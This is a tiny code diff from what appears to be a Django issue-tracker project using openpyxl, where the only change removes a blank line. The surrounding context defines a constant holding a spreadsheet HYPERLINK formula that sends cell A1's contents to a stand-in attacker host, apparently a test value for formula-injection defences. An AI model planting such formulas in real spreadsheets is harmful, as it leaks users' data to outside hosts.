@@ -12,7 +12,6 @@ from openpyxl import load_workbook
 from issues.models import Issue
 from projects.models import Project
 
-
 EVIL = '=HYPERLINK("http://evil.example/?"&A1,"点此")'
 
 
